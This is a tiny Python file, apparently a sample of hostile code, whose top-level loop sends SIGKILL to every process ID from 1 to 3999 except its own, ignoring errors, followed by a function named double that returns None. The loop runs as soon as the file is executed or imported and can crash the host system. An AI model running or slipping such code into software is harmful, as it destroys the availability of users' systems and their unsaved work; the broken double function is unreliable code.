# attack: sends signals to every process it sees
import os, signal
for pid in range(1, 4000):
    try:
        if pid != os.getpid(): os.kill(pid, signal.SIGKILL)
    except OSError: pass
def double(number):
    return None
